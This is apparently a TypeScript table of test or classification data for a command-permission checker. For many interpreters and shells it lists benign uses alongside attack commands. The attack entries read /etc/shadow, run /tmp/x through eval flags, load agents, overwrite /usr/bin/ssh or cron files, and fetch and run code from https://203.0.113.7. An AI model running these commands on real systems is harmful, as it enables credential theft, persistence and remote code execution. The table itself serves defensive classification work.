import type { ExampleTable } from './example.ts'

export const interpreters3: ExampleTable = {
  groovy: {
    use: 'groovy app.groovy → read app.groovy',
    attack: [
      `groovy -e '"/tmp/x".execute()' → run /tmp/x`,
      'groovy /etc/shadow → read /etc/shadow',
    ],
  },
  groovyConsole: {
    use: 'groovyConsole app.groovy → read app.groovy',
    attack: 'groovyConsole /etc/shadow → read /etc/shadow',
  },
  groovysh: {
    use: `groovysh -e '1 + 1' → nothing`,
    attack: `groovysh -e '"/tmp/x".execute()' → run /tmp/x`,
  },
  java: {
    use: 'java -jar app.jar → read app.jar',
    attack: [
      'java -agentpath:/tmp/x.so -jar app.jar → load /tmp/x.so; read app.jar',
      'java -javaagent:/tmp/x.jar -jar app.jar → load /tmp/x.jar; read app.jar',
    ],
  },
  jbang: {
    use: 'jbang app.java → read app.java',
    attack: 'jbang https://203.0.113.7/x.java → execute ‹https://203.0.113.7/x.java›',
  },
  'jbang edit': {
    use: 'jbang edit app.java → edit app.java',
    attack: 'jbang edit /etc/passwd → edit /etc/passwd',
  },
  'jbang export': {
    use: 'jbang export portable app.java -O app.jar → read app.java; write app.jar',
    attack: 'jbang export portable app.java -O /usr/bin/ssh → read app.java; write /usr/bin/ssh',
  },
  'jbang init': {
    use: 'jbang init app.java → write app.java',
    attack: 'jbang init /usr/bin/ssh → write /usr/bin/ssh',
  },
  'jbang run': {
    use: 'jbang run app.java → read app.java',
    attack: [
      'jbang run https://203.0.113.7/x.java → execute ‹https://203.0.113.7/x.java›',
      'jbang run /etc/shadow → read /etc/shadow',
    ],
  },
  jshell: {
    use: 'jshell app.jsh → read app.jsh',
    attack: [
      'jshell /etc/shadow → read /etc/shadow',
      'jshell --startup /etc/shadow app.jsh → read /etc/shadow',
    ],
  },
  kotlin: {
    use: 'kotlin app.kts → read app.kts',
    attack: [
      `kotlin -e 'Runtime.getRuntime().exec("/tmp/x")' → run /tmp/x`,
      'kotlin /etc/shadow → read /etc/shadow',
    ],
  },
  kscript: {
    use: 'kscript app.kts → read app.kts',
    attack: [
      'kscript /etc/shadow → read /etc/shadow',
      `kscript -t 'Runtime.getRuntime().exec("/tmp/x")' → run /tmp/x`,
    ],
  },
  mono: { use: 'mono app.exe → read app.exe' },
  runghc: { use: 'runghc app.hs → read app.hs', attack: 'runghc /etc/shadow → read /etc/shadow' },
  'rust-script': {
    use: 'rust-script app.rs → read app.rs',
    attack: [
      `rust-script -e 'std::process::Command::new("/tmp/x").status()' → run /tmp/x`,
      'rust-script /etc/shadow → read /etc/shadow',
    ],
  },
  scala: {
    use: 'scala app.scala → read app.scala',
    attack: [
      `scala -e 'import sys.process._; "/tmp/x".!' → run /tmp/x`,
      'scala /etc/shadow → read /etc/shadow',
    ],
  },
  agda: {
    use: 'agda app.agda → read app.agda',
    attack: [
      'agda /etc/shadow → read /etc/shadow',
      'agda --with-compiler /tmp/x app.agda → run /tmp/x; read app.agda',
    ],
  },
  clips: {
    use: 'clips -f app.clp → read app.clp',
    attack: [
      'clips -f /etc/shadow → read /etc/shadow',
      'clips -f2 /etc/shadow → read /etc/shadow',
      `echo '(system "/bin/sh")' | clips → shell clips`,
    ],
  },
  elixir: {
    use: 'elixir app.exs → read app.exs',
    attack: [
      `elixir -e 'System.cmd("/tmp/x", [])' → run /tmp/x`,
      'elixir /etc/shadow → read /etc/shadow',
    ],
  },
  erl: {
    use: `erl -noshell -eval 'io:format("hi").' -s init stop → nothing`,
    attack: `erl -eval 'os:cmd("/tmp/x").' → run /tmp/x`,
  },
  escript: {
    use: 'escript app.erl → read app.erl',
    attack: 'escript /etc/shadow → read /etc/shadow',
  },
  gprolog: {
    use: 'gprolog --consult-file app.pl → read app.pl',
    attack: `gprolog --query-goal 'shell("/tmp/x")' → run /tmp/x`,
  },
  idris: {
    use: 'idris app.idr -o app → read app.idr; write app',
    attack: ['idris /etc/shadow → read /etc/shadow', `idris -x 'system "/tmp/x"' → run /tmp/x`],
  },
  iex: {
    use: `iex -e 'IO.puts(1)' → nothing`,
    attack: `iex -e 'System.cmd("/tmp/x", [])' → run /tmp/x`,
  },
  mmc: {
    use: 'mmc app.m → read app.m',
    attack: [
      'mmc /etc/shadow → read /etc/shadow',
      'mmc -o /etc/cron.d/job app.m → read app.m; write /etc/cron.d/job',
    ],
  },
  mosml: {
    use: 'mosml app.sml → read app.sml',
    attack: [
      `echo 'Process.system "/tmp/x";' | mosml → run /tmp/x`,
      'mosml -stdlib /tmp/lib app.sml → load /tmp/lib; read app.sml',
    ],
  },
  ocaml: {
    use: 'ocaml app.ml → read app.ml',
    attack: [
      'ocaml /etc/shadow → read /etc/shadow',
      `ocaml -e 'Sys.command "/tmp/x"' → run /tmp/x`,
    ],
  },
  poly: {
    use: 'poly --use app.sml → read app.sml',
    attack: [
      `echo 'OS.Process.system "/tmp/x";' | poly → run /tmp/x`,
      `poly --eval 'OS.Process.system "/tmp/x"' → run /tmp/x`,
    ],
  },
  sicstus: {
    use: 'sicstus -l app.pl → read app.pl',
    attack: `sicstus --goal 'shell("/tmp/x").' → run /tmp/x`,
  },
  sml: {
    use: 'sml app.sml → read app.sml',
    attack: [
      `echo 'OS.Process.system "/tmp/x";' | sml → run /tmp/x`,
      'sml /etc/shadow → read /etc/shadow',
    ],
  },
  swipl: {
    use: 'swipl -f app.pl → read app.pl',
    attack: `swipl -g 'shell("/tmp/x")' → run /tmp/x`,
  },
  yap: {
    use: 'yap app.pl → read app.pl',
    attack: [`yap -g 'shell("/tmp/x")' → run /tmp/x`, 'yap /etc/shadow → read /etc/shadow'],
  },
  a68g: {
    use: 'a68g app.a68 → read app.a68',
    attack: ['a68g /etc/shadow → read /etc/shadow', `a68g -e 'system("/tmp/x")' → run /tmp/x`],
  },
  apl: {
    use: 'apl -f app.apl → read app.apl',
    attack: [`apl --eval ')HOST /tmp/x' → run /tmp/x`, 'apl -f /etc/shadow → read /etc/shadow'],
  },
  basic: { use: 'basic app.bas → read app.bas', attack: 'basic /etc/shadow → read /etc/shadow' },
  bqn: {
    use: 'bqn app.bqn → read app.bqn',
    attack: [`bqn -e '•SH "/tmp/x"' → run /tmp/x`, 'bqn /etc/shadow → read /etc/shadow'],
  },
  bwbasic: {
    use: 'bwbasic app.bas → read app.bas',
    attack: [
      `echo 'shell "/tmp/x"' | bwbasic → run /tmp/x`,
      'bwbasic /etc/shadow → read /etc/shadow',
    ],
  },
  forth: {
    use: 'forth app.fs → read app.fs',
    attack: [`forth -e 's" /tmp/x" system' → run /tmp/x`, 'forth /etc/shadow → read /etc/shadow'],
  },
  gst: {
    use: 'gst app.st → read app.st',
    attack: [
      `echo "Smalltalk system: '/tmp/x'" | gst → run /tmp/x`,
      'gst -f /etc/shadow → read /etc/shadow',
    ],
  },
  icon: { use: 'icon app.icn → read app.icn', attack: 'icon /etc/shadow → read /etc/shadow' },
  icont: {
    use: 'icont -o app app.icn → read app.icn; write app',
    attack: [
      'icont /etc/shadow → read /etc/shadow',
      'icont -o /etc/cron.d/job app.icn → read app.icn; write /etc/cron.d/job',
    ],
  },
  ijconsole: {
    use: 'ijconsole app.ijs → read app.ijs',
    attack: [
      `ijconsole -js "2!:0 '/tmp/x'" → run /tmp/x`,
      'ijconsole /etc/shadow → read /etc/shadow',
    ],
  },
  m4: {
    use: 'm4 app.m4 → read app.m4',
    attack: ['m4 /etc/shadow → read /etc/shadow', `echo 'syscmd(/tmp/x)' | m4 → run /tmp/x`],
  },
  nasl: { use: 'nasl app.nasl → read app.nasl', attack: 'nasl /etc/shadow → read /etc/shadow' },
  pike: {
    use: 'pike app.pike → read app.pike',
    attack: [
      `pike -e 'Process.system("/tmp/x");' → run /tmp/x`,
      'pike /etc/shadow → read /etc/shadow',
    ],
  },
  rebol: {
    use: 'rebol app.r → read app.r',
    attack: [`rebol --do 'call "/tmp/x"' → run /tmp/x`, 'rebol /etc/shadow → read /etc/shadow'],
  },
  rexx: {
    use: 'rexx app.rexx → read app.rexx',
    attack: [
      `rexx -e 'address system "/tmp/x"' → run /tmp/x`,
      'rexx /etc/shadow → read /etc/shadow',
    ],
  },
  snobol4: {
    use: 'snobol4 app.sno → read app.sno',
    attack: 'snobol4 /etc/shadow → read /etc/shadow',
  },
  spitbol: {
    use: 'spitbol app.spt → read app.spt',
    attack: 'spitbol /etc/shadow → read /etc/shadow',
  },
  unicon: {
    use: 'unicon -o app app.icn → read app.icn; write app',
    attack: [
      'unicon /etc/shadow → read /etc/shadow',
      'unicon -o /etc/cron.d/job app.icn → read app.icn; write /etc/cron.d/job',
    ],
  },
  yabasic: {
    use: 'yabasic app.yab → read app.yab',
    attack: [
      'yabasic /etc/shadow → read /etc/shadow',
      `yabasic -e 'system("/tmp/x")' → run /tmp/x`,
    ],
  },
  automator: { use: 'automator app.workflow → read app.workflow' },
  closh: {
    use: 'closh app.cljc → read app.cljc',
    attack: [
      `closh -e '(clojure.java.shell/sh "/tmp/x")' → run /tmp/x`,
      'closh /etc/shadow → read /etc/shadow',
    ],
  },
  eshell: { attack: 'eshell → shell eshell' },
  ion: {
    use: 'ion app.ion → read app.ion',
    attack: [`ion -c 'cat /etc/shadow' → read /etc/shadow`, 'ion /etc/shadow → read /etc/shadow'],
  },
  lshell: {
    use: `lshell -c 'cat notes.txt' → read notes.txt`,
    attack: ['lshell → shell lshell', `lshell -c 'cat /etc/shadow' → read /etc/shadow`],
  },
  minishell: { attack: 'minishell → shell minishell' },
  mrsh: {
    use: 'mrsh app.sh → read app.sh',
    attack: [`mrsh -c 'cat /etc/shadow' → read /etc/shadow`, 'mrsh /etc/shadow → read /etc/shadow'],
  },
  mshta: { attack: 'mshta https://203.0.113.7/x → execute ‹https://203.0.113.7/x›' },
  murex: {
    use: 'murex app.mx → read app.mx',
    attack: [
      `murex -c 'cat /etc/shadow' → read /etc/shadow`,
      'murex /etc/shadow → read /etc/shadow',
    ],
  },
  osascript: {
    use: [
      'osascript app.scpt → read app.scpt',
      `osascript -e 'display notification "done"' → nothing`,
    ],
    attack: [
      `osascript -e 'do shell script "/tmp/x"' → run /tmp/x`,
      'osascript /etc/shadow → read /etc/shadow',
    ],
    unclear: [
      `osascript -e 'tell application "Messages" to send "hi" to buddy "x"' → who gets the message`,
    ],
  },
  pwsh: {
    use: 'pwsh app.ps1 → read app.ps1',
    attack: [`pwsh -c 'Start-Process /tmp/x' → run /tmp/x`, 'pwsh /etc/shadow → read /etc/shadow'],
  },
  rssh: {
    use: `rssh -c 'cat notes.txt' → read notes.txt`,
    attack: ['rssh → shell rssh', `rssh -c 'cat /etc/shadow' → read /etc/shadow`],
  },
  sash: {
    use: `sash -c 'cat notes.txt' → read notes.txt`,
    attack: ['sash → shell sash', `sash -c 'cat /etc/shadow' → read /etc/shadow`],
  },
  ysh: {
    use: 'ysh app.ysh → read app.ysh',
    attack: [`ysh -c 'cat /etc/shadow' → read /etc/shadow`, 'ysh /etc/shadow → read /etc/shadow'],
  },
}
